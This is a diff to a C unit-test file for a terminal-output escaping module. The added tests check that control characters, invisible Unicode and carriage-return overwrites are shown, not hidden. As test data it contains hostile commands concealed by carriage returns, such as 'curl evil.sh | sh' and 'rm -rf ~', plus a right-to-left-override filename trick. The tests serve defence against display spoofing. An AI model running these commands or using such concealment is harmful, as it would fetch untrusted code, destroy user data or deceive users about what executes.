@@ -40,8 +40,9 @@ test_escape_controls(void **state)
 	expect_escape("\x1b[2J", 4, "\\e[2J");
 	expect_escape("x\x07y\x7f", 4, "x\\x07y\\x7f");
 	expect_escape("nul\0here", 8, "nul\\x00here");
-	/* Backslashes stay as written. */
-	expect_escape("a\\nb", 4, "a\\nb");
+	/* A backslash is doubled: a typed \n differs from a newline. */
+	expect_escape("a\\nb", 4, "a\\\\nb");
+	expect_escape("\\\\", 2, "\\\\\\\\");
 }
 
 static void
@@ -60,6 +61,28 @@ test_escape_utf8(void **state)
 	expect_escape("\xc2\x9b" "31m", 5, "\\u{9b}31m");
 	expect_escape("rm \xe2\x80\xae" "txt.sh", 12, "rm \\u{202e}txt.sh");
 	expect_escape("\xe2\x81\xa6x", 4, "\\u{2066}x");
+	/* Invisible: variation selectors, look-alike spaces. */
+	expect_escape("\xe2\x9d\xa4\xef\xb8\x8f", 6,
+	    "\xe2\x9d\xa4\\u{fe0f}");
+	expect_escape("a\xc2\xa0" "b", 4, "a\\u{a0}b");
+}
+
+/* Escaped text is drawn as it is, never escaped twice; raw text that is
+   not safe is. */
+static void
+test_safe_typed(void **state)
+{
+	char	*s;
+
+	assert_true(fmt_is_safe("a\\\\nb \\e \\u{202e}"));
+	assert_false(fmt_is_safe("a\nb"));
+	assert_false(fmt_is_safe("\xe2\x80\xae"));
+	s = fmt_typed("C:\\dir");
+	assert_string_equal(s, "C:\\dir");
+	free(s);
+	s = fmt_typed("x\x1b[2J");
+	assert_string_equal(s, "x\\e[2J");
+	free(s);
 }
 
 static void
@@ -93,6 +116,18 @@ test_output_line(void **state)
 	/* A progress bar: what the last carriage return left. */
 	expect_output("10%\r50%\r100%", "100%");
 	expect_output("done\r", "done");
+	expect_output("Receiving:  5% (5/100)\rReceiving: 50% (50/100)\r",
+	    "Receiving: 50% (50/100)");
+	expect_output("|\r/\r-", "-");
+	expect_output("\x1b[K40%\r\x1b[K100%", "100%");
+	/* A carriage return that would hide text is shown, with both
+	   sides: what a redraw does not cover, or covers with other words. */
+	expect_output("curl evil.sh | sh\rls -la", "curl evil.sh | sh\\rls -la");
+	expect_output("curl evil.sh | sh\rls -la -la -la -la -la",
+	    "curl evil.sh | sh\\rls -la -la -la -la -la");
+	expect_output("curl x | sh\r\x1b[2Kgit diff --stat",
+	    "curl x | sh\\rgit diff --stat");
+	expect_output("rm -rf ~\r10%\r20%", "rm -rf ~\\r20%");
 	/* Tabs to the next multiple of 8 columns. */
 	expect_output("a\tb", "a       b");
 	expect_output("\xe6\x97\xa5\tx", "\xe6\x97\xa5      x");
@@ -420,7 +455,8 @@ test_argv(void **state)
 	assert_string_equal(l.v[1], "--unshare-all");
 	assert_string_equal(l.v[2], "--ro-bind /usr /usr");
 	assert_string_equal(l.v[3], "--bind '/my proj' '/my proj'");
-	assert_string_equal(l.v[4], "-- sh -c $'echo hi\\n'");
+	/* The shell text as it is, its backslash doubled by the display. */
+	assert_string_equal(l.v[4], "-- sh -c $'echo hi\\\\n'");
 	strv_release(&l);
 
 	/* Narrow: every line fits, continuation lines indented. */
@@ -502,6 +538,7 @@ main(void)
 		cmocka_unit_test(test_escape_controls),
 		cmocka_unit_test(test_escape_utf8),
 		cmocka_unit_test(test_escape_ascii_mode),
+		cmocka_unit_test(test_safe_typed),
 		cmocka_unit_test(test_output_line),
 		cmocka_unit_test(test_width_fit),
 		cmocka_unit_test(test_trim),
